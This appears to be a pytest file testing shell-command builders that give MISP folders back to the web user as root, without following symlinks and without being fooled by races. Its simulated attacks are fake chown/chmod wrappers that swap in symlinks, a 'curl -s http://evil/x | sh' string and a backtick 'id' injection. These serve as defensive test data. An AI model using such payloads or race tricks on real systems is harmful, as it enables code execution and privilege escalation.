"""Commands that the operator runs as root give away what is MISP's, and nothing behind a link."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tasks.host import remedies

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
HIM = 33
NAMES = ("app/Config", "app/tmp")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """MISP's folder, in which everything is root's; its name is one that a pattern would read."""
    root = tmp_path / "MISP [1]*"
    for name in ("app/Config", "app/tmp/cache", "app/Configs"):
        (root / name).mkdir(parents=True)
        (root / name / "a file").write_text("")
    return root


@pytest.fixture
def treasure(tmp_path: Path) -> Path:
    """Somebody else's folder, named as MISP's are."""
    for name in ("Config", "tmp"):
        (tmp_path / "treasure/app" / name).mkdir(parents=True)
        (tmp_path / "treasure/app" / name / "shadow").write_text("")
    return tmp_path / "treasure"


def run(command: str) -> None:
    subprocess.run(["sh", "-c", command], check=True, env={"PATH": "/usr/bin:/bin"})


def given(folder: Path) -> set[str]:
    """What below a folder is his."""
    found = [folder, *folder.rglob("*")]
    return {str(one.relative_to(folder)) for one in found if one.lstat().st_uid == HIM}


def test_what_is_named_is_given_and_nothing_else(root: Path) -> None:
    run(remedies.give_back(str(root), str(HIM), *NAMES, below=True))
    assert given(root) == {
        "app/Config",
        "app/Config/a file",
        "app/tmp",
        "app/tmp/cache",
        "app/tmp/cache/a file",
    }


def test_one_file_is_given_alone_and_with_its_group(root: Path) -> None:
    run(remedies.give_back(str(root), f"{HIM}:{HIM}", "app/Config/a file"))
    assert given(root) == {"app/Config/a file"}
    assert (root / "app/Config/a file").stat().st_gid == HIM


def test_misps_folder_itself_may_be_named_by_a_link(root: Path) -> None:
    (root.parent / "link").symlink_to(root)
    run(remedies.give_back(str(root.parent / "link"), str(HIM), "app/Config"))
    assert given(root) == {"app/Config"}


@pytest.mark.parametrize("place", ["app", "app/Config", "app/tmp", "app/tmp/cache"])
def test_no_link_is_followed(root: Path, treasure: Path, place: str) -> None:
    (root / place).rename(root / "aside")
    (root / place).symlink_to(treasure if place != "app" else treasure / "app")
    for below in (True, False):
        run(remedies.give_back(str(root), str(HIM), *NAMES, "app/tmp/cache", below=below))
    assert given(treasure) == set()


def test_a_link_that_comes_when_a_file_was_found_is_not_followed(
    root: Path, treasure: Path, tmp_path: Path
) -> None:
    """A chown that lets the web user be quicker than root, in the middle of the path."""
    slow = tmp_path / "slow"
    slow.mkdir()
    app = f"'{root}/app'"
    (slow / "chown").write_text(
        f"#!/bin/sh\nmv {app} '{root}/aside' && ln -s '{treasure}/app' {app}\n"
        'exec /usr/bin/chown "$@"\n'
    )
    (slow / "chown").chmod(0o755)
    command = remedies.give_back(str(root), str(HIM), *NAMES, below=True)
    path = f"{slow}:/usr/bin:/bin"
    subprocess.run(["sh", "-c", command], check=False, capture_output=True, env={"PATH": path})
    assert (root / "app").is_symlink()
    assert given(treasure) == set()
    assert given(root / "aside") != set()


def test_a_second_name_of_somebody_elses_file_is_left(root: Path, treasure: Path) -> None:
    os.link(treasure / "app/tmp/shadow", root / "app/tmp/shadow")
    run(remedies.give_back(str(root), str(HIM), *NAMES, below=True))
    assert given(treasure) == set()


def test_words_of_his_are_no_command_and_end() -> None:
    assert remedies.quoted("a `curl -s http://evil/x | sh`\n\x1b[2Jb") == (
        "a 'curl -s http://evil/x | sh'  [2Jb"
    )
    assert remedies.quoted("x" * 81, 80) == "x" * 79 + "\u2026"
    assert remedies.quoted("x" * 80, 80) == "x" * 80
    assert remedies.names(["a`b", "y" * 100]) == "a'b, " + "y" * 79 + "\u2026"


def test_a_backtick_in_a_word_does_not_end_the_command() -> None:
    word = remedies.word("/srv/a`id`'b")
    assert "`" not in word
    done = subprocess.run(["bash", "-c", f"printf %s {word}"], check=True, stdout=subprocess.PIPE)
    assert done.stdout == b"/srv/a`id`'b"


def test_a_folder_of_somebodys_is_made_by_him() -> None:
    assert remedies.make_folder("/srv/my logs", "") == "mkdir -p '/srv/my logs'"
    assert remedies.make_folder("/srv/MISP/app/tmp/x", "www-data") == (
        "setsid -w runuser -u www-data -- mkdir -p /srv/MISP/app/tmp/x </dev/null 2>&1 | cat -v"
    )


OPENED = 0o705
CLOSED = 0o700


def opened(*some: Path) -> list[bool]:
    return [one.stat().st_mode & 0o777 == OPENED for one in some]


def test_the_mode_of_a_folder_is_changed(root: Path) -> None:
    app = root / "app"
    app.chmod(CLOSED)
    run(remedies.in_folder(str(app), "chmod", "705", "."))
    assert opened(app) == [True]


@pytest.mark.parametrize("place", ["app", "app/tmp"])
def test_no_link_on_the_way_to_a_folder_is_followed(root: Path, treasure: Path, place: str) -> None:
    (root / place).rename(root / "aside")
    (root / place).symlink_to(treasure / place)
    with pytest.raises(subprocess.CalledProcessError):
        run(remedies.in_folder(str(root / "app/tmp"), "chmod", "705", "."))
    assert opened(treasure / "app/tmp", treasure / "app") == [False, False]


@pytest.mark.parametrize("place", ["app", "app/tmp"])
def test_a_link_that_comes_when_a_folder_was_entered_is_not_followed(
    root: Path, treasure: Path, tmp_path: Path, place: str
) -> None:
    slow = tmp_path / "slow"
    slow.mkdir()
    (slow / "chmod").write_text(
        f"#!/bin/sh\nmv '{root}/{place}' '{root}/aside'\n"
        f"ln -s '{treasure}/{place}' '{root}/{place}'\nexec /usr/bin/chmod \"$@\"\n"
    )
    (slow / "chmod").chmod(0o755)
    command = remedies.in_folder(str(root / "app/tmp"), "chmod", "705", ".")
    env = {"PATH": f"{slow}:/usr/bin:/bin"}
    subprocess.run(["sh", "-c", command], check=True, env=env)
    assert opened(treasure / "app/tmp", treasure / "app") == [False, False]
    assert opened(root / "aside" / ("tmp" if place == "app" else "")) == [True]
